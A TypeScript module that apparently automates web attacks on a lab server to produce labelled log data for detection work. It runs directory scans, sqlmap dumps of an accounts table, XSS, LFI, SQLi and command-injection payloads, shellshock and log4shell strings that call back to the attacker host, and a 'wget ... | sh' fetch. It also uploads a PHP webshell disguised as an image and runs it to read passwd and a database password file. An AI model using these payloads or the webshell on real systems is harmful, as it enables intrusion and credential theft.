/**
 * Web steps: a content scan (dirb, gobuster or ffuf over a subsampled common.txt), WhatWeb
 * plus wpscan-style WordPress probes, sqlmap against the injectable product page, hand-sent
 * XSS/LFI/RCE/shellshock/log4shell payloads, and a PHP webshell upload with commands.
 *
 * @module
 */
import { act } from "./actor.ts";
import type { AttackCtx, Step } from "./attacks.ts";
import { sampleList } from "./sample.ts";

const WPSCAN_UA = "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)";
const APACHE = ["apache_access", "apache_error"];
const WEB = [...APACHE, "nginx_access", "nginx_error"];
/** Families the webshell and what runs through it write to. */
export const SHELL = [...APACHE, "snoopy"];
/** What snoopy shows for commands the webshell (and shells it starts) runs. */
export const UPLOADS_CWD = "cwd:/var/www/html/uploads";
/** The webshell's path on the server once uploaded. */
export const SHELL_PATH = "/uploads/shell.php";

function curl(c: AttackCtx, args: string[], t = 12) {
  return act(c.atk, [
    "curl",
    "-s",
    "-o",
    "/dev/null",
    "-m",
    "10",
    "-A",
    c.plan.scenario.tools.agent,
    ...args,
  ], t);
}

/** Runs `cmd` on the server through the uploaded webshell; returns its output. */
export async function viaShell(c: AttackCtx, cmd: string, t = 15): Promise<string> {
  const url = `http://${c.target(c.plan.srvIp)}${SHELL_PATH}?c=${encodeURIComponent(cmd)}`;
  const r = await act(c.atk, [
    "curl",
    "-s",
    "-m",
    String(t - 2),
    "-A",
    c.plan.scenario.tools.agent,
    url,
  ], t);
  return r.stdout;
}

async function webScan(c: AttackCtx): Promise<void> {
  const t = c.target(c.plan.srvIp), tools = c.plan.scenario.tools;
  const list = await sampleList(
    c.plan.rng,
    "/usr/share/dirb/wordlists/common.txt",
    tools.webWords,
    `${c.dir}/web.txt`,
    [
      "index.php",
      "uploads",
      "admin",
      "login.php",
      "cgi-bin/",
      "robots.txt",
      ".git/HEAD",
      ".env",
    ],
  );
  const bound = Math.min(c.left(), 80);
  for (const base of [`http://${t}/`, `http://${t}:8080/`]) {
    switch (tools.webScanner) {
      case "dirb":
        await act(c.atk, ["dirb", base, list, "-r", "-S", "-z", "20", "-w"], bound / 2);
        break;
      case "gobuster":
        await act(c.atk, [
          "gobuster",
          "dir",
          "-u",
          base,
          "-w",
          list,
          "-t",
          "3",
          "-q",
          "--timeout",
          "5s",
          "--delay",
          "20ms",
        ], bound / 2);
        break;
      case "ffuf":
        await act(
          c.atk,
          ["ffuf", "-u", `${base}FUZZ`, "-w", list, "-t", "3", "-p", "0.02", "-s"],
          bound / 2,
        );
    }
  }
}

async function fingerprint(c: AttackCtx): Promise<void> {
  const t = c.target(c.plan.srvIp);
  await act(
    c.atk,
    ["whatweb", "-a", "3", "--no-errors", `http://${t}/`, `http://${t}:8080/`],
    Math.min(c.left(), 40),
  );
  const wp = [
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-json/wp/v2/users",
    "/wp-content/plugins/wpdiscuz/readme.txt",
    "/wp-content/debug.log",
    "/wp-config.php.bak",
    "/readme.html",
    "/wp-includes/version.php",
    "/.git/config",
    "/server-status",
    "/phpmyadmin/",
    "/backup.zip",
  ];
  await act(c.atk, [
    "curl",
    "-s",
    "-m",
    "20",
    "-A",
    WPSCAN_UA,
    ...wp.flatMap((p) => [`http://${t}${p}`, "-o", "/dev/null"]),
  ], 25);
}

async function sqlmap(c: AttackCtx): Promise<void> {
  const t = c.target(c.plan.srvIp);
  const common = [
    "--dbms=mysql",
    "--batch",
    "--risk",
    "1",
    "--technique=BEU",
    "--threads",
    "2",
    "--timeout",
    "5",
    "--retries",
    "0",
    "--output-dir",
    `${c.dir}/sqlmap`,
    ...(c.plan.seed % 2 ? ["--random-agent"] : []),
  ];
  const bound = () => Math.max(5, Math.min(c.left(), 90));
  // The injectable product page: dump the accounts table.
  await act(c.atk, [
    "sqlmap",
    "-u",
    `http://${t}/products.php?id=1`,
    "--level",
    "1",
    "-D",
    "shop",
    "-T",
    "accounts",
    "--dump",
    ...common,
  ], bound());
  // The search uses a prepared statement: sqlmap tries its payloads and finds nothing.
  await act(
    c.atk,
    ["sqlmap", "-u", `http://${t}/search.php?q=desk`, "--level", "2", ...common],
    bound(),
  );
}

async function payloads(c: AttackCtx): Promise<void> {
  const t = c.target(c.plan.srvIp), a = c.plan.atkIp;
  const urls = [
    "/search.php?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "/search.php?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "/view.php?page=../../../../etc/passwd",
    "/view.php?page=....//....//....//etc/hosts",
    "/view.php?page=php://filter/convert.base64-encode/resource=index.php",
    "/products.php?id=1%20AND%20SLEEP(2)",
    "/products.php?id=-1%20UNION%20SELECT%201,user(),3,4--%20-",
    "/index.php?cmd=%3Bcat%20/etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    `/view.php?page=http://${a}:8000/enum.sh`,
    "/view.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "/view.php?page=..%252f..%252f..%252f..%252fetc%252fshadow",
    "/view.php?page=/proc/self/environ",
    "/search.php?q=%7B%7B7*7%7D%7D",
    "/search.php?q=%3Csvg%2Fonload%3Dfetch(%27%2F%2Fx%27)%3E",
    "/products.php?id=1%27%20OR%20%271%27%3D%271",
    "/products.php?id=1;DROP%20TABLE%20products--",
    "/login.php?user=admin%27--&pass=x",
    "/index.php?page=;wget%20http://x/a.sh|sh",
    "/upload.php?file=../../../../../var/log/apache2/access.log",
  ];
  for (const u of urls) await curl(c, [`http://${t}${u}`]);
  await curl(c, [
    "-A",
    "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'",
    `http://${t}/cgi-bin/status.sh`,
  ]);
  await curl(c, [
    "-H",
    `X-Api-Version: \${jndi:ldap://${a}:1389/Basic/Command/Base64/aWQ=}`,
    `http://${t}/`,
  ]);
  await curl(c, ["-A", `\${jndi:ldap://${a}:1389/a}`, `http://${t}/login.php`]);
}

async function webshell(c: AttackCtx): Promise<void> {
  const t = c.target(c.plan.srvIp), f = `${c.dir}/shell.php`;
  await Deno.writeTextFile(
    f,
    "<?php if(isset($_GET['c'])){ echo shell_exec($_GET['c'].' 2>&1'); } ?>\n",
  );
  await curl(c, ["-F", `file=@${f};type=image/png`, `http://${t}/upload.php`]);
  for (
    const cmd of [
      "id",
      "uname -a",
      "pwd",
      "ls -la",
      "cat /etc/passwd",
      "ps aux",
      "ls -la /home",
      "cat /etc/lab/dbpass",
    ]
  ) {
    await viaShell(c, cmd);
  }
}

/** The web steps. */
export const WEB_STEPS: Step[] = [
  { name: "web_scan", label: "web_scan", families: [], targets: WEB, maxS: 90, run: webScan },
  {
    name: "web_fingerprint",
    label: "web_scan",
    families: [],
    targets: WEB,
    maxS: 60,
    run: fingerprint,
  },
  { name: "sqlmap", label: "web_exploit", families: [], targets: APACHE, maxS: 90, run: sqlmap },
  {
    name: "web_payloads",
    label: "web_exploit",
    families: [],
    targets: APACHE,
    maxS: 40,
    run: payloads,
  },
  {
    name: "webshell",
    label: "web_exploit",
    families: ["snoopy"],
    targets: SHELL,
    user: () => UPLOADS_CWD,
    maxS: 60,
    run: webshell,
  },
];
